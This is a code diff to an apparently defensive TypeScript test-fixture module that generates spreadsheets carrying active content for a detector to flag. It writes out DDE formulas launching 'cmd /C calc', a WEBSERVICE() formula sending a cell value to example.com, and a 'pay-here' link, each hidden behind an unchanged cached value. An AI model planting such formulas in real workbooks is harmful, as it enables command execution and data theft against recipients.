@@ -4,6 +4,7 @@
 // (officer import, CLI verify/import, monitoring report, workshop collect) must flag them.
 import type { ForeignContent } from '../../shared/workbook';
 import { enc, workbookBytes } from './workbookCases';
+import { sheetPartName } from './sheetXml';
 import { textPart, unzipParts, withText, zipParts, type ZipPart } from './zipBytes';
 
 export interface ActiveCase {
@@ -11,6 +12,8 @@ export interface ActiveCase {
   title: string;
   bytes: Uint8Array;
   kind: ForeignContent['kind'];
+  /** The case rewrites a data cell (a formula), so the cell is also a visible change. */
+  editsCell?: true;
 }
 
 const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
@@ -72,6 +75,23 @@ function externalLinked(parts: readonly ZipPart[], dde: boolean): ZipPart[] {
   );
 }
 
+const xmlText = (v: string) =>
+  v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
+
+/**
+ * The first figure of the Metrics sheet turned into `formula` with the same cached number, as a
+ * person typing it in Excel would leave it: a reader that trusts cached values sees nothing.
+ */
+function formulaInDataCell(parts: readonly ZipPart[], formula: string): ZipPart[] {
+  const name = sheetPartName(parts, 'Metrics');
+  const xml = textPart(parts, name);
+  const cell = /<c r="([A-Z]+\d+)"((?: s="\d+")?)><v>(-?[\d.]+)<\/v><\/c>/.exec(xml);
+  if (!cell) throw new Error('no figure on the Metrics sheet');
+  const [whole, ref, style, value] = cell as unknown as [string, string, string, string];
+  const next = `<c r="${ref}"${style}><f>${xmlText(formula)}</f><v>${value}</v></c>`;
+  return withText(parts, name, xml.replace(whole, next));
+}
+
 export async function activeWorkbooks(): Promise<ActiveCase[]> {
   const good = await workbookBytes();
   const parts = unzipParts(good);
@@ -106,6 +126,46 @@ export async function activeWorkbooks(): Promise<ActiveCase[]> {
       title: 'a hyperlink to a file on another computer (UNC)',
       bytes: make((p) => hyperlinked(p, '\\\\198.51.100.7\\share\\loan.xlsx')),
       kind: 'external_link',
+    },
+    {
+      id: 'https-hyperlink',
+      title: 'a web hyperlink (GreenThread writes no links)',
+      bytes: make((p) => hyperlinked(p, 'https://example.com/pay-here?loan=1')),
+      kind: 'web_link',
+    },
+    {
+      id: 'mailto-hyperlink',
+      title: 'a mail hyperlink',
+      bytes: make((p) => hyperlinked(p, 'mailto:officer@example.com?subject=loan')),
+      kind: 'web_link',
+    },
+    {
+      id: 'dde-formula',
+      title: 'a DDE formula in a data cell that starts a program',
+      bytes: make((p) => formulaInDataCell(p, "cmd|' /C calc'!A0")),
+      kind: 'dde',
+      editsCell: true,
+    },
+    {
+      id: 'dde-function',
+      title: 'a DDE() formula in a data cell',
+      bytes: make((p) => formulaInDataCell(p, 'DDE("cmd","/C calc","A0")')),
+      kind: 'dde',
+      editsCell: true,
+    },
+    {
+      id: 'webservice-formula',
+      title: 'a WEBSERVICE() formula in a data cell',
+      bytes: make((p) => formulaInDataCell(p, 'WEBSERVICE("https://example.com/x?d="&A1)+0')),
+      kind: 'web_link',
+      editsCell: true,
+    },
+    {
+      id: 'hyperlink-formula',
+      title: 'a HYPERLINK() formula in a data cell',
+      bytes: make((p) => formulaInDataCell(p, 'HYPERLINK("https://example.com","12")')),
+      kind: 'web_link',
+      editsCell: true,
     },
     {
       id: 'vba',
